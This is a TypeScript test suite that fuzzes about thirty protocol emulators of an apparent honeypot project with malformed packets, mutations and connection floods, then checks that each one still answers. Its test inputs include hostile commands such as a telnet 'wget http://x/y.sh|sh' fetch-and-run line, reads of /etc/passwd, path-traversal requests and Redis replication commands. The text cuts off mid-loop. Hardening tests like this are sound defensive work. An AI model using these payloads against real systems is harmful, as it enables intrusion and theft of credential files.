import { createCipheriv } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { connect } from 'node:net'
import { connect as tlsConnect } from 'node:tls'
import type { Persona } from '@decnet/core/schemas'
import { InvalidCredentialsError, Client as LdapClient } from 'ldapts'
import ModbusRTU from 'modbus-serial'
import { MongoClient } from 'mongodb'
import mqtt from 'mqtt'
import mysql from 'mysql2/promise'
import { Connection } from 'tedious'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Emulator } from '../src/emulator.ts'
import { EMULATOR_SLUGS, loadEmulator } from '../src/registry.ts'
import { rawConnect, type Started, startBinary, udpExchange } from './binary-helpers.ts'
import { pgLoginError, snmpGet } from './binary-helpers-clients.ts'
import { rdpConnectionRequest, smb1Negotiate, smb2Negotiate, tdsPrelogin } from './binary-helpers-packets.ts'
import { BUILDS, windowsPersona } from './windows-personas.ts'

/**
 * The hostile-input probe kept as code, for every one of the emulators: raw garbage, protocol-shaped
 * messages and seeded mutations of them (truncated, bit-flipped, absurd lengths), each delivered
 * whole then FIN, cut by an RST mid-message, or left hanging; a 1 MiB flood; a flood of connections
 * reset at once. Afterwards every emulator must still serve a fresh real client, no fault may have
 * escaped to the process, and the memory retained must stay bounded. Randomness is seeded.
 */

// AES-CTR keystream: deterministic like a seeded PRNG, and fast enough for megabyte floods.
const keystream = createCipheriv('aes-128-ctr', Buffer.alloc(16, 7), Buffer.alloc(16, 9))
const garbage = (size: number) => keystream.update(Buffer.alloc(size))
const hex = (text: string) => Buffer.from(text.replace(/\s+/g, ''), 'hex')

/** Deeply nested BER constructed elements (LDAP "and" filters, SNMP sequences). */
function nestedBer(tag: number, depth: number, core: Buffer): Buffer {
  let inner = core
  for (let i = 0; i < depth; i++) {
    const length = inner.length
    const header =
      length < 0x80
        ? Buffer.from([tag, length])
        : length < 0x100
          ? Buffer.from([tag, 0x81, length])
          : Buffer.from([tag, 0x82, length >> 8, length & 0xff])
    inner = Buffer.concat([header, inner])
  }
  return inner
}

/** Protocol-shaped hostile inputs per slug; the generic ones below are sent to everyone. */
const TCP_ATTACKS: Record<string, Buffer[]> = {
  mysql: [
    hex('ffffff01'),
    hex('200000 01 00820000'),
    Buffer.concat([hex('600000 01 0fa20a00'), garbage(92)]),
  ],
  postgres: [
    hex('7fffffff 00030000'),
    hex('00000008 04d2162f'),
    hex('00000010 00030000 7573657200'),
    hex('00000009 00030000 00 70ffffffff'),
  ],
  mqtt: [
    hex('10ffffffff7f'),
    hex('10 0c 0004 4d515454 04 c2 003c ffff'),
    hex('82 05 0001 ffff00'),
    hex('30 03 ffff41'),
  ],
  rdp: [
    hex('0300ffff'),
    hex('03000008 02f080'),
    Buffer.concat([hex('03000030 2ae00000000000'), Buffer.from('Cookie: mstshash=no-crlf-here')]),
  ],
  vnc: [Buffer.from('RFB 003.00'), Buffer.from('RFB 999.999\n'), Buffer.from('RFB 003.008\n\x00')],
  ldap: [
    hex('3084ffffffff'),
    hex('30 05 02 01 01 60 00'),
    hex('30 0c 02 01 01 60 07 02 01 03 04 ff 80 00'),
    (() => {
      const filter = nestedBer(0xa0, 60, hex('870b6f626a656374436c617373'))
      const search = Buffer.concat([hex('0400 0a0100 0a0100 020100 020100 010100'), filter, hex('3000')])
      return nestedBer(0x30, 1, Buffer.concat([hex('020102'), nestedBer(0x63, 1, search)]))
    })(),
  ],
  smb: [
    smb1Negotiate(['NT LM 0.12']),
    Buffer.concat([
      smb1Negotiate(['NT LM 0.12']),
      hex('0000003c ff534d42 73000000 00180140 0000000000000000 00000000 ffff0000 00000000'),
      hex('0d ff00 0000 ffff 0100 0100 00000000 1800 ffff 00000000 50000000 ffff'),
    ]),
    hex('00ffffff'),
    hex('00000004 fe534d42'),
    hex('85000000'),
    hex('ff000004 00000000'),
    Buffer.concat([
      hex('00000060'),
      hex('fe534d42 4000'),
      Buffer.alloc(6),
      hex('0100'),
      Buffer.alloc(50),
      hex('1900 0000 0000 0000 0000 0000 ffff ffff'),
    ]),
  ],
  msrpc: [
    hex('0500 0b03 10000000 ffff 0000 01000000'),
    hex('0500 0b03 10000000 4800 0000 01000000 b810b810 00000000 ff000000'),
    Buffer.concat([hex('0500 0003 10000000 2000 0000 02000000 08000000 0000 0200'), garbage(8)]),
    hex('0500 0e03 10000000 1c00 0000 03000000 b810b810 00000000 05000000'),
    hex('0600 0b03'),
  ],
  mssql: [
    hex('1201ffff00000000'),
    hex('10010010000001 00 ffffffff ffffffff'),
    hex('12000010 00000000 0000ffff ff00'),
  ],
  mongodb: [
    hex('ffffff7f 00000000 00000000 dd070000'),
    hex('15000000 01000000 00000000 dd070000 00000000 00'),
    Buffer.concat([
      hex('2a000000 01000000 00000000 dd070000 00000000 00'),
      hex('15000000 03 6100 0d000000 03 6200 05000000 00 00 00'),
    ]),
    hex('1d000000 01000000 00000000 dd070000 00000000 01 f0ffffff 00 00'),
  ],
  conpot: [
    hex('0001 0000 ffff 01'),
    hex('0001 0007 0006 01 03 0000 007d'),
    hex('0001 0000 0006 01 10 0000 007b ff'),
    hex('0001 0000 0002 01 2b'),
  ],
}
const UDP_ATTACKS: Record<string, Buffer[]> = {
  dns: [
    hex('1234 0100 0001 0000 0000 0000 c00c 0001 0001'),
    hex('1234 0100 ffff 0000 0000 0000 3f41'),
    hex('12'),
  ],
  llmnr: [hex('1234 0000 0001 0000 0000 0000 c00c 0001 0001'), hex('ffff')],
  nbns: [
    Buffer.concat([
      hex('1234 0000 0001 0000 0000 0000 20'),
      Buffer.from('CK'.padEnd(32, 'A')),
      hex('00 0021 0001'),
    ]),
    Buffer.concat([
      hex('1234 0000 0001 0000 0000 0000 20'),
      Buffer.from('ZZ'.padEnd(32, 'Z')),
      hex('00 0020 0001'),
    ]),
    hex('1234 0000 0001 0000 0000 0000 ff'),
  ],
  snmp: [
    hex('3084ffffffff'),
    nestedBer(0x30, 200, Buffer.alloc(0)),
    hex(
      '3029 020101 0406 7075626c6963 a01c 02040000 0001 020100 020100 300e 300c 0608 2b06010201010100 0500',
    ),
  ],
  tftp: [hex('0001'), hex('0001 41414141'), hex('0005 0001'), hex('00ff')],
}

const GENERIC_TCP = (): Buffer[] => [garbage(4096), garbage(3), Buffer.alloc(64, 0xff), Buffer.alloc(64, 0)]

const http = (path: string, extra = '') =>
  Buffer.from(`GET ${path} HTTP/1.1\r\nHost: decoy\r\nUser-Agent: probe\r\n${extra}\r\n`)
const HTTP_ATTACKS = [
  http('/'),
  Buffer.from('POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999\r\n\r\nuser=admin&pass='),
  Buffer.from('POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nAAAA\r\n'),
  http('/../../../../etc/passwd?%00%ff%fe', `Cookie: a=b; ${'c=d; '.repeat(500)}\r\n`),
  Buffer.from(`GET / HTTP/1.1\r\n${'X-Flood: y\r\n'.repeat(3000)}\r\n`),
  Buffer.from('GET / HTTP/9.9\r\nHost: \x00\xff\r\n\r\n', 'latin1'),
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x12\x04\x00\x00\x00\x00\x00'),
]
const JSON_API_ATTACKS = (paths: string[]) => [
  ...HTTP_ATTACKS.slice(1, 4),
  ...paths.map((path) =>
    Buffer.from(
      `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 40\r\n\r\n{"a":[[[[[[[[[[[[[[[[{"b":1e999999}]]]]]]`,
    ),
  ),
  ...paths.map((path) => http(path)),
]
const SMTP_ATTACKS = [
  Buffer.from(
    'EHLO x\r\nAUTH PLAIN AGFkbWluAGFkbWlu\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<c@d.e>\r\nDATA\r\nSubject: x\r\n\r\nbody\r\n.\r\nQUIT\r\n',
  ),
  Buffer.from(`EHLO x\r\nMAIL FROM:<a@b.c>\r\n${'RCPT TO:<x@y.z>\r\n'.repeat(400)}DATA\r\n`),
  Buffer.from('AUTH LOGIN\r\n=====\r\n\x00\xff\r\nAUTH PLAIN ////\r\n*\r\n', 'latin1'),
  Buffer.from('EHLO x\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<c@d.e>\r\nDATA\r\n..\r\n.\r\n.\r\nDATA\r\n'),
]
const TEXT_ATTACKS: Record<string, Buffer[]> = {
  ssh: [
    Buffer.from('SSH-2.0-OpenSSH_9.6\r\n'),
    Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), hex('ffffffff 14'), garbage(64)]),
    Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), hex('0000002c 06 14'), garbage(16), hex('ffffffff')]),
    Buffer.from(`SSH-2.0-${'A'.repeat(300)}\r\n`),
    Buffer.from('SSH-1.5-old\r\n'),
  ],
  telnet: [
    hex('fffb01 fffb03 fffd18 fffd1f fffa18 00 787465726d fff0'),
    Buffer.from('root\r\nroot\r\nls -la; cat /etc/passwd\r\nwget http://x/y.sh|sh\r\n'),
    Buffer.concat([hex('fffa18'), Buffer.alloc(20_000, 0x41)]),
    Buffer.alloc(2000, 0xff),
    Buffer.from('\x1b[A\x1b[1;5D\x03\x04\x7f\x7f\r\n', 'latin1'),
  ],
  http: HTTP_ATTACKS,
  https: HTTP_ATTACKS,
  ftp: [
    Buffer.from(
      'USER anonymous\r\nPASS x@\r\nPASV\r\nLIST\r\nRETR ../../etc/passwd\r\nSTOR x\r\nEPSV\r\nNLST\r\n',
    ),
    Buffer.from('PORT 999,999,999,999,999,999\r\nREST 99999999999999999999\r\nSIZE \x00\r\n', 'latin1'),
    Buffer.from(`USER ${'A'.repeat(10_000)}\r\n`),
    Buffer.from(`USER ftp\r\nPASS ftp\r\n${'PASV\r\n'.repeat(50)}`),
  ],
  smtp: SMTP_ATTACKS,
  smtp_relay: SMTP_ATTACKS,
  imap: [
    Buffer.from('a1 CAPABILITY\r\na2 LOGIN "user" "pass"\r\na3 SELECT INBOX\r\na4 FETCH 1:* (BODY[])\r\n'),
    Buffer.from('a1 LOGIN {99999999}\r\n'),
    Buffer.from('a1 LOGIN u p\r\na2 FETCH 4294967295:* (RFC822.SIZE BODY[HEADER])\r\na3 FETCH *:1 ALL\r\n'),
    Buffer.from('a1 LOGIN "unterminated\r\na2 AUTHENTICATE PLAIN\r\n////\r\n'),
  ],
  pop3: [
    Buffer.from(
      'USER a\r\nPASS b\r\nSTAT\r\nLIST\r\nRETR 1\r\nRETR 99999999999\r\nTOP 1 -1\r\nDELE 0\r\nQUIT\r\n',
    ),
    Buffer.from(`APOP ${'x'.repeat(5000)} ffff\r\nAUTH PLAIN\r\n====\r\n`),
  ],
  redis: [
    Buffer.from('*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n*2\r\n$3\r\nGET\r\n$1\r\na\r\n'),
    Buffer.from('*2147483647\r\n'),
    Buffer.from('*1\r\n$-5\r\n'),
    Buffer.from('*1\r\n$99999999\r\nAAAA'),
    Buffer.from(
      'CONFIG SET dir /tmp\r\nEVAL "return 1" 0\r\nSLAVEOF 1.2.3.4 6379\r\nKEYS *\r\nSCAN 0 MATCH [\r\n',
    ),
  ],
  elasticsearch: JSON_API_ATTACKS(['/_search', '/_cat/indices?v', '/_all/_search?q=*', '/_nodes']),
  k8s: JSON_API_ATTACKS(['/api/v1/namespaces/default/secrets', '/apis', '/version', '/api/v1/pods/exec']),
  docker_api: JSON_API_ATTACKS([
    '/v1.41/containers/create',
    '/containers/json?all=1',
    '/_ping',
    '/v1.41/exec',
  ]),
  sip: [
    Buffer.from(
      'INVITE sip:100@x SIP/2.0\r\nVia: SIP/2.0/TCP 1.2.3.4\r\nFrom: <sip:a@b>\r\nTo: <sip:c@d>\r\nCall-ID: 1\r\nCSeq: 1 INVITE\r\nContent-Length: 99999\r\n\r\nv=0',
    ),
    Buffer.from('OPTIONS sip:x SIP/2.0\r\n\r\n'),
    Buffer.from(
      'REGISTER sip:x SIP/2.0\r\nAuthorization: Digest username="\x00", nonce=, response\r\nCSeq: x\r\n\r\n',
      'latin1',
    ),
    Buffer.from(`MESSAGE sip:x SIP/2.0\r\n${'Via: x\r\n'.repeat(2000)}\r\n`),
  ],
}

/** A seeded generator (xorshift32): the same mutations on every run. */
function seededRandom(seed: number) {
  let state = seed >>> 0 || 1
  const next = () => {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    return (state >>> 0) / 0x1_0000_0000
  }
  return { int: (max: number) => Math.floor(next() * max), next }
}

const HUGE_NUMBERS = ['4294967295', '-1', '99999999999999999999', '0', '2147483648']

/** Seeded mutants of one protocol-shaped message: truncated, bit-flipped, spliced, length-inflated. */
function mutate(seed: Buffer, random: ReturnType<typeof seededRandom>): Buffer {
  const copy = Buffer.from(seed)
  switch (random.int(6)) {
    case 0:
      return copy.subarray(0, random.int(copy.length))
    case 1: {
      for (let i = 0; i < 1 + random.int(8); i++) {
        const at = random.int(copy.length)
        copy[at] = (copy[at] as number) ^ (1 << random.int(8))
      }
      return copy
    }
    case 2: {
      // A 0xff run where a length field may sit: absurd sizes in binary headers.
      const at = random.int(Math.max(1, copy.length - 4))
      copy.fill(0xff, at, Math.min(copy.length, at + 4))
      return copy
    }
    case 3: {
      // Decimal numbers (Content-Length, RESP lengths, sequence sets) replaced by extreme ones.
      const text = copy.toString('latin1')
      const huge = HUGE_NUMBERS[random.int(HUGE_NUMBERS.length)] as string
      return Buffer.from(
        text.replace(/\d+/g, (digits) => (random.int(2) ? huge : digits)),
        'latin1',
      )
    }
    case 4: {
      const at = random.int(copy.length)
      const slice = copy.subarray(at, at + 1 + random.int(32))
      return Buffer.concat([
        copy.subarray(0, at),
        ...Array.from({ length: 50 }, () => slice),
        copy.subarray(at),
      ])
    }
    default:
      return Buffer.concat([copy.subarray(0, random.int(copy.length)), garbage(1 + random.int(256))])
  }
}

/** How a hostile message is delivered: whole then FIN, cut by an RST mid-message, or left hanging. */
type Delivery = 'fin' | 'rst-mid' | 'rst-after' | 'hang'
const DELIVERIES: Delivery[] = ['fin', 'rst-mid', 'rst-after', 'hang']

function hitTcp(host: string, port: number, payload: Buffer, delivery: Delivery = 'hang'): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host, port })
    const done = () => {
      socket.destroy()
      resolve()
    }
    socket.on('error', done)
    socket.on('close', done)
    socket.on('data', () => undefined)
    socket.on('connect', () => {
      if (delivery === 'rst-mid') {
        socket.write(payload.subarray(0, Math.ceil(payload.length / 2)), () => {
          socket.resetAndDestroy()
          resolve()
        })
        return
      }
      socket.write(payload)
      if (delivery === 'fin') socket.end()
      setTimeout(
        () => {
          if (delivery === 'rst-after' && !socket.destroyed) {
            socket.resetAndDestroy()
            resolve()
          } else done()
        },
        delivery === 'rst-after' ? 20 : 150,
      )
    })
  })
}

/** Connections reset the moment they open (scanners): nothing may leak or escape. */
function resetFlood(host: string, port: number, count: number): Promise<void>[] {
  return Array.from(
    { length: count },
    () =>
      new Promise<void>((resolve) => {
        const socket = connect({ host, port }, () => {
          socket.resetAndDestroy()
          resolve()
        })
        socket.on('error', () => resolve())
      }),
  )
}

/** Sends `request` (if any) and resolves with the text received once it matches `pattern`. */
function converse(
  instance: Started,
  request: string | Buffer | undefined,
  pattern: RegExp,
  options: { port?: number; tls?: boolean } = {},
): Promise<string> {
  return new Promise((resolve, reject) => {
    const port = options.port ?? instance.port
    const socket = options.tls
      ? tlsConnect({ host: instance.host, port, rejectUnauthorized: false })
      : connect({ host: instance.host, port })
    let received = ''
    const timer = setTimeout(() => {
      socket.destroy()
      reject(new Error(`expected ${pattern}, got ${JSON.stringify(received.slice(0, 200))}`))
    }, 4000)
    socket.on(options.tls ? 'secureConnect' : 'connect', () => {
      if (request !== undefined) socket.write(request)
    })
    socket.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1')
      if (pattern.test(received)) {
        clearTimeout(timer)
        socket.destroy()
        resolve(received)
      }
    })
    socket.on('error', (error) => {
      clearTimeout(timer)
      reject(error)
    })
  })
}

const OK_200 = /^HTTP\/1\.1 200 /
const TEXT_PROBES: Record<string, (instance: Started) => Promise<unknown>> = {
  ssh: (instance) => converse(instance, undefined, /^SSH-2\.0-OpenSSH_/),
  telnet: (instance) => converse(instance, '\r\n', /login: $/),
  http: (instance) => converse(instance, http('/', 'Connection: close\r\n'), OK_200),
  https: (instance) => converse(instance, http('/', 'Connection: close\r\n'), OK_200, { tls: true }),
  ftp: (instance) => converse(instance, 'USER anonymous\r\n', /^220[\s\S]*\r\n331 /),
  smtp: (instance) => converse(instance, 'EHLO probe\r\n', /^220 [\s\S]*\r\n250 [^\r\n]+\r\n$/),
  smtp_relay: (instance) => converse(instance, 'EHLO probe\r\n', /^220 [\s\S]*\r\n250 [^\r\n]+\r\n$/),
  imap: (instance) => converse(instance, 'a1 CAPABILITY\r\n', /^\* OK[\s\S]*a1 OK/),
  pop3: (instance) => converse(instance, 'CAPA\r\n', /^\+OK[\s\S]*\r\n\.\r\n/),
  redis: (instance) => converse(instance, 'PING\r\n', /^\+PONG\r\n/),
  elasticsearch: (instance) => converse(instance, http('/', 'Connection: close\r\n'), OK_200),
  // 6443 is the apiserver's TLS port (garbage hits the TLS layer there); 8080 answers plain HTTP.
  k8s: (instance) =>
    converse(instance, http('/version', 'Connection: close\r\n'), OK_200, {
      port: instance.ports[1] as number,
    }),
  docker_api: (instance) => converse(instance, http('/_ping', 'Connection: close\r\n'), OK_200),
  sip: (instance) =>
    converse(
      instance,
      'OPTIONS sip:probe@decoy SIP/2.0\r\nVia: SIP/2.0/TCP 127.0.0.1:5060;branch=z9hG4bK1\r\nFrom: <sip:p@x>;tag=1\r\nTo: <sip:probe@decoy>\r\nCall-ID: probe-1\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n',
      /^SIP\/2\.0 \d{3} /,
    ),
}

/** Hostile TSRequests inside the TLS tunnel NLA opens after the X.224 negotiation. */
const CREDSSP_ATTACKS = [
  hex('3084ffffffff'),
  garbage(20_000),
  nestedBer(0x30, 1, Buffer.concat([nestedBer(0xa0, 1, hex('020106')), nestedBer(0xa1, 1, hex('3000'))])),
  nestedBer(
    0x30,
    1,
    nestedBer(
      0xa1,
      1,
      nestedBer(0x30, 1, nestedBer(0x30, 1, nestedBer(0xa0, 1, hex('0408 4e544c4d53535000')))),
    ),
  ),
]

async function hitCredssp(host: string, port: number, payload: Buffer): Promise<void> {
  const raw = await rawConnect(host, port)
  raw.write(rdpConnectionRequest('hostile', 0x03))
  await raw.read(19)
  await new Promise<void>((resolve) => {
    const tls = tlsConnect({ socket: raw.socket, rejectUnauthorized: false }, () => {
      tls.write(payload)
      setTimeout(() => {
        tls.destroy()
        resolve()
      }, 150)
    })
    tls.on('error', () => resolve())
  })
  raw.close()
}

function hitUdp(host: string, port: number, payload: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const socket = createSocket('udp4')
    socket.send(payload, port, host, () => {
      setTimeout(() => {
        socket.close()
        resolve()
      }, 20)
    })
  })
}

function withTimeout<T>(promise: Promise<T>, ms = 5000): Promise<T> {
  return Promise.race([
    promise,
    new Promise<T>((_, reject) => setTimeout(() => reject(new Error('probe timed out')), ms)),
  ])
}

type Probe = (instance: Started) => Promise<void>

/** A fresh real client per slug: the proof that the emulator survived. */
const PROBES: Record<string, Probe> = {
  ...TEXT_PROBES,
  async mysql(instance) {
    const error = await mysql
      .createConnection({
        host: instance.host,
        port: instance.port,
        user: 'root',
        password: 'x',
        connectTimeout: 3000,
      })
      .then(
        () => undefined,
        (failure: { errno?: number }) => failure,
      )
    expect(error?.errno).toBe(1045)
  },
  async postgres(instance) {
    const error = await pgLoginError(instance, { user: 'u', password: 'p' })
    expect(error?.code).toBe('28P01')
  },
  async mqtt(instance) {
    const client = await mqtt.connectAsync(`mqtt://${instance.host}:${instance.port}`, {
      reconnectPeriod: 0,
      connectTimeout: 3000,
    })
    expect(client.connected).toBe(true)
    await client.endAsync()
  },
  async rdp(instance) {
    const raw = await rawConnect(instance.host, instance.port)
    raw.write(rdpConnectionRequest('probe', 1))
    expect((await raw.read(19))[5]).toBe(0xd0)
    raw.close()
  },
  async vnc(instance) {
    const raw = await rawConnect(instance.host, instance.port)
    expect((await raw.read(12)).toString()).toBe('RFB 003.008\n')
    raw.close()
  },
  async ldap(instance) {
    const client = new LdapClient({
      url: `ldap://${instance.host}:${instance.port}`,
      timeout: 3000,
      connectTimeout: 3000,
    })
    await expect(client.bind('cn=admin', 'admin')).rejects.toBeInstanceOf(InvalidCredentialsError)
    await client.unbind()
  },
  async smb(instance) {
    const raw = await rawConnect(instance.host, instance.port)
    raw.write(smb2Negotiate([0x0202, 0x0210]))
    const length = (await raw.read(4)).readUInt32BE(0)
    expect((await raw.read(length)).readUInt16LE(64 + 4)).toBe(0x0210)
    raw.close()
  },
  async mssql(instance) {
    const raw = await rawConnect(instance.host, instance.port)
    raw.write(tdsPrelogin())
    expect((await raw.read(8))[0]).toBe(0x04)
    raw.close()
    const error = await new Promise<Error & { code?: string }>((resolve) => {
      const connection = new Connection({
        server: instance.host,
        authentication: { type: 'default', options: { userName: 'sa', password: 'sa' } },
        options: { port: instance.port, encrypt: false, connectTimeout: 3000 },
      })
      connection.on('error', () => undefined)
      connection.connect((failure) => {
        connection.close()
        resolve(failure ?? new Error('no error'))
      })
    })
    expect(error.code).toBe('ELOGIN')
  },
  async mongodb(instance) {
    const client = new MongoClient(
      `mongodb://${instance.host}:${instance.port}/?directConnection=true&serverSelectionTimeoutMS=3000`,
    )
    try {
      const info = await client.db('admin').command({ buildInfo: 1 })
      expect(info.ok).toBe(1)
    } finally {
      await client.close()
    }
  },
  async conpot(instance) {
    const client = new ModbusRTU()
    await client.connectTCP(instance.host, { port: instance.ports[0] as number })
    client.setTimeout(2000)
    expect((await client.readHoldingRegisters(0, 4)).data).toHaveLength(4)
    await new Promise<void>((resolve) => client.close(() => resolve()))
    const [descr] = await snmpGet(instance.host, instance.ports[1] as number, 'public', ['1.3.6.1.2.1.1.1.0'])
    expect(String(descr?.value).length).toBeGreaterThan(5)
    const raw = await rawConnect(instance.host, instance.ports[2] as number)
    raw.write('GET / HTTP/1.1\r\nHost: plc\r\nConnection: close\r\n\r\n')
    // The CPU's own appliance web server answers HTTP/1.0, one request per connection.
    expect((await raw.readAvailable()).toString()).toMatch(/^HTTP\/1\.0 200 OK/)
    raw.close()
  },
  async dns(instance) {
    const resolver = new Resolver({ timeout: 1000, tries: 1 })
    resolver.setServers([`${instance.host}:${instance.port}`])
    expect(await resolver.resolve4('portal.acme.test')).toEqual(['10.1.2.3'])
    const raw = await rawConnect(instance.host, instance.port)
    raw.write(hex('0022 0101 0100 0001 0000 0000 0000 06706f7274616c 0461636d65 0474657374 00 0001 0001'))
    const length = (await raw.read(2)).readUInt16BE(0)
    expect((await raw.read(length)).readUInt16BE(6)).toBe(1)
    raw.close()
  },
  async msrpc(instance) {
    const raw = await rawConnect(instance.host, instance.port)
    raw.write(
      hex(
        '0500 0b03 10000000 4800 0000 01000000 b810b810 00000000 01000000 0000 0100' +
          '0883afe11f5dc91191a408002b14a0fa 03000000 045d888aeb1cc9119fe808002b104860 02000000',
      ),
    )
    expect((await raw.read(16))[2]).toBe(12)
    raw.close()
  },
  async nbns(instance) {
    const reply = await udpExchange(
      instance.host,
      instance.port,
      Buffer.concat([
        hex('4242 0000 0001 0000 0000 0000 20'),
        Buffer.from('CK'.padEnd(32, 'A')),
        hex('00 0021 0001'),
      ]),
    )
    expect(reply?.readUInt16BE(6)).toBe(1)
  },
  async llmnr(instance) {
    const reply = await udpExchange(
      instance.host,
      instance.port,
      hex('4242 0000 0001 0000 0000 0000 0466733031 00 0001 0001'),
    )
    expect(reply?.readUInt16BE(6)).toBe(1)
  },
  async snmp(instance) {
    const [name] = await snmpGet(instance.host, instance.port, 'public', ['1.3.6.1.2.1.1.5.0'])
    // sysName is the persona's host name (data-persona.test.ts checks which); here: still answering.
    expect(String(name?.value)).toMatch(/^[\w.-]+$/)
  },
  async tftp(instance) {
    const reply = await udpExchange(instance.host, instance.port, hex('0001 6100 6f6374657400'))
    expect(reply?.readUInt16BE(0)).toBe(5)
  },
}

const UDP_ONLY = new Set(['llmnr', 'nbns', 'snmp', 'tftp'])
/** Services answering on UDP too (all their ports, unless listed in UDP_PORT_INDEXES). */
const UDP_TOO = new Set(['dns', 'sip'])
const PORTS: Record<string, number[]> = {
  conpot: [0, 0, 0],
  k8s: [0, 0],
  llmnr: [0, 0],
  smb: [0, 0],
  ldap: [0, 0],
  // The second port speaks implicit TLS (https on 443, imaps, pop3s): garbage hits both layers.
  http: [0, 0],
  imap: [0, 0],
  pop3: [0, 0],
}
/** Windows protocols answer for the persona's names: a Windows host named FS01. */
const WINDOWS = windowsPersona(BUILDS.server2019, { hostname: 'FS01' })
const PERSONAS: Record<string, Persona> = {
  llmnr: WINDOWS,
  nbns: WINDOWS,
  msrpc: WINDOWS,
  // 2016 keeps SMB1 on: the SMB1 negotiate and session-setup paths get the barrage too.
  smb: windowsPersona(BUILDS.server2016, { hostname: 'FS01' }),
}
const CONFIG: Record<string, Record<string, string | boolean>> = {
  rdp: { nla: true },
  dns: { domain: 'acme.test', extra_records: 'portal A 10.1.2.3' },
}
/** Mutants per protocol-shaped seed; with the generic inputs and floods, ~60-250 inputs per service. */
const MUTANTS_PER_SEED = 6
const RESET_FLOOD = 60

function retainedBytes(): number {
  const gc = (globalThis as { gc?: () => void }).gc
  if (!gc) throw new Error('run with --expose-gc (see vitest.config.ts)')
  gc()
  const usage = process.memoryUsage()
  return usage.heapUsed + usage.arrayBuffers
}

/** Runs `tasks` at most `width` at a time. */
async function inBatches(tasks: (() => Promise<void>)[], width = 64): Promise<void> {
  for (let i = 0; i < tasks.length; i += width)
    await Promise.all(tasks.slice(i, i + width).map((task) => task()))
}

const tally = { services: 0, inputs: 0, crashes: 0 }
/** Faults that escaped an emulator to the process (the crashes a decoy container would die of). */
let escaped: unknown[] = []
const onEscape = (error: unknown) => {
  escaped.push(error)
}
beforeAll(() => {
  process.on('uncaughtException', onEscape)
  process.on('unhandledRejection', onEscape)
})
afterAll(() => {
  process.off('uncaughtException', onEscape)
  process.off('unhandledRejection', onEscape)
  console.log(
    `hostile-input suite: ${tally.inputs} inputs against ${tally.services} services, ${tally.crashes} crashes`,
  )
})

describe('every emulator under hostile input', () => {
  it('covers every registered emulator', () => {
    expect(EMULATOR_SLUGS.length).toBe(30)
    expect([...EMULATOR_SLUGS].sort()).toEqual(Object.keys(PROBES).sort())
  })

  it.each(EMULATOR_SLUGS)(
    '%s survives garbage, mutated messages, RST/FIN mid-message and floods, and still answers',
    async (slug) => {
      const emulator = (await loadEmulator(slug)) as Emulator
      expect(emulator.slug).toBe(slug)
      const instance = await startBinary(emulator, {
        ports: PORTS[slug],
        config: CONFIG[slug],
        hostname: 'fs01',
        seed: `hostile-${slug}`,
        ...(PERSONAS[slug] ? { persona: PERSONAS[slug] } : {}),
      })
      try {
        const probe = PROBES[slug] as Probe
        await withTimeout(probe(instance))
        const retainedBefore = retainedBytes()
        escaped = []

        const udpPorts =
          slug === 'conpot'
            ? [instance.ports[1] as number]
            : UDP_ONLY.has(slug) || UDP_TOO.has(slug)
              ? instance.ports
              : []
        const tcpPorts = UDP_ONLY.has(slug)
          ? []
          : slug === 'conpot'
            ? [instance.ports[0] as number, instance.ports[2] as number]
            : instance.ports
        const random = seededRandom(slug.length * 7919 + (slug.charCodeAt(0) ?? 0))
        const seeds = [...(TCP_ATTACKS[slug] ?? []), ...(TEXT_ATTACKS[slug] ?? [])]
        const tcpPayloads = [
          ...GENERIC_TCP(),
          ...seeds,
          ...seeds.flatMap((seed) => Array.from({ length: MUTANTS_PER_SEED }, () => mutate(seed, random))),
        ]
        const udpSeeds = UDP_ATTACKS[slug] ?? UDP_ATTACKS.snmp ?? []
        const udpPayloads = [
          garbage(512),
          garbage(1),
          Buffer.alloc(0),
          garbage(9000),
          ...udpSeeds,
          ...udpSeeds.flatMap((seed) => Array.from({ length: MUTANTS_PER_SEED }, () => mutate(seed, random))),
        ]
        const tasks: (() => Promise<void>)[] = [
          ...tcpPorts.flatMap((port) =>
            tcpPayloads.map(
              (payload, index) => () =>
                hitTcp(instance.host, port, payload, DELIVERIES[index % DELIVERIES.length]),
            ),
          ),
          ...tcpPorts.map((port) => () => hitTcp(instance.host, port, garbage(1024 * 1024))),
          ...udpPorts.flatMap((port) =>
            udpPayloads.map((payload) => () => hitUdp(instance.host, port, payload)),
          ),
          ...(slug === 'rdp'
            ? CREDSSP_ATTACKS.map((payload) => () => hitCredssp(instance.host, instance.port, payload))
            : []),
        ]
        await inBatches(tasks)
        await Promise.all(tcpPorts.flatMap((port) => resetFlood(instance.host, port, RESET_FLOOD)))
        const inputs = tasks.length + tcpPorts.length * RESET_FLOOD

        await withTimeout(probe(instance))
        // Let connections the decoy is still reaping go, then nothing proportional to the barrage stays.
        await new Promise((resolve) => setTimeout(resolve, 100))
        const growth = retainedBytes() - retainedBefore
        tally.services++
        tally.inputs += inputs
        tally.crashes += escaped.length
        expect(escaped).toEqual([])
        expect(growth).toBeLessThan(24 * 1024 * 1024)
        expect(inputs).toBeGreaterThan(20)

        // The tunnelled attacks really reached the CredSSP parser (not just the TLS layer).
        if (slug === 'rdp')
          expect(instance.events.some((event) => event.fields.kind === 'credssp')).toBe(true)
        for (const event of instance.events) {
          expect(typeof event.event).toBe('string')
          // Reset floods included: every event is attributed (SO_PEERNAME when getpeername failed).
          expect(event.src_ip).not.toBe('unknown')
          for (const value of Object.values(event.fields)) {
            expect(['string', 'number', 'boolean'].includes(typeof value) || value === null).toBe(true)
